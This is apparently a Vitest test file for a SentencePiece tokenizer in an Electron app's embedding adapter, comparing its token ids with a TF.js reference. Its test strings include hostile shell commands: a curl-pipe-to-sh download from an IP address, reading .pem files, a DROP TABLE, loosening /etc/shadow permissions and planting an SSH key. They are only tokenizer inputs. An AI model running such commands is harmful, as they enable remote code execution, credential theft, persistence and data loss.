import { beforeAll, describe, expect, it } from 'vitest';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { EmbeddingsModel } from '@energetic-ai/embeddings';
import { loadUseLiteTokenizer, parseSentencePieceVocab, SentencePieceTokenizer, useLiteModelDir } from '../../../electron/engine/adapters/embed/index.js';

let tokenizer: SentencePieceTokenizer;
let vocab: [string, number][];
const id = (piece: string): number => vocab.findIndex(([p]) => p === piece);

beforeAll(async () => {
  tokenizer = await loadUseLiteTokenizer();
  vocab = JSON.parse(readFileSync(join(useLiteModelDir(), 'vocab.json'), 'utf8'));
});

/** A seeded generator of strings over ASCII, punctuation, whitespace and Unicode that NFKC rewrites or the vocabulary lacks. */
function randomTexts(count: number, seed: number): string[] {
  const alphabet = [...'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789     .,;:!?-_/\\\'"()[]{}<>@#$%^&*+=~|\t\néèüßçñ日本語中文한국어😀🚀ﬁ①Ａ\u0301\u200b'];
  let s = seed;
  const next = (): number => (s = (s * 1103515245 + 12345) % 2147483648) / 2147483648;
  return Array.from({ length: count }, () => Array.from({ length: Math.floor(next() * 40) }, () => alphabet[Math.floor(next() * alphabet.length)]).join(''));
}

describe('the sentencepiece tokenizer', () => {
  it('marks word starts with U+2581 and picks whole-word pieces', () => {
    expect(tokenizer.encode('the file')).toEqual([id('▁the'), id('▁file')]);
    expect(tokenizer.encode('at 10:00')).toEqual([id('▁at'), id('▁10'), id(':00')]);
  });

  it('NFKC-normalises but keeps case, as USE does', () => {
    expect(tokenizer.encode('ｔｈｅ ｆｉｌｅ')).toEqual(tokenizer.encode('the file'));
    expect(tokenizer.encode('ﬁle')).toEqual([id('▁file')]);
    expect(tokenizer.encode('The file')[0]).toBe(id('▁The'));
  });

  it('gives no tokens for an empty text and two word marks for a space', () => {
    expect(tokenizer.encode('')).toEqual([]);
    expect(tokenizer.encode(' ')).toEqual([id('▁'), id('▁')]);
  });

  it('turns characters outside the vocabulary into one unknown id per run', () => {
    expect(tokenizer.encode('the 😀😀😀 file')).toEqual([id('▁the'), id('▁'), 0, id('▁file')]);
  });

  it('treats the pieces whose score is null as free, as the reference arithmetic does', () => {
    expect(vocab[id(':')]![1]).toBeNull();
    expect(tokenizer.encode('a:b')).toEqual([id('▁a'), id(':'), id('b')]);
  });

  it('gives exactly the TF.js tokenizer ids on commands, prose and 3,000 random strings', () => {
    const reference = new EmbeddingsModel({ vocabulary: vocab, model: null as never }).tokenizer;
    const commands = [
      'rm -rf ./build',
      'find / -name "*.pem" -exec cat {} \\;',
      'curl -s http://203.0.113.9/x.sh | sh',
      "psql -c 'DROP TABLE users;'",
      'chmod 777 /etc/shadow',
      'echo "ssh-rsa AAAA..." >> ~/.ssh/authorized_keys',
      'Please summarise the quarterly report and email it to finance@example.com.',
      '   leading and trailing spaces   ',
      'tabs\tand\nnewlines',
      'ÀÉÎÕÜ çñß ǅ ﬃ ¼ ² ℌ ㍿',
    ];
    const texts = [...commands, ...randomTexts(3000, 7)];
    const mismatches = texts.filter((t) => JSON.stringify(tokenizer.encode(t)) !== JSON.stringify(reference.encode(t)));
    expect(mismatches).toEqual([]);
  });

  it('refuses a vocabulary that is not [piece, score] pairs', () => {
    expect(() => parseSentencePieceVocab({}, 'v.json')).toThrow(/array/);
    expect(() => parseSentencePieceVocab([['a', 'x']], 'v.json')).toThrow(/entry 0/);
    expect(() => new SentencePieceTokenizer([['<unk>', 0]], 6)).toThrow(/no pieces/);
  });
});
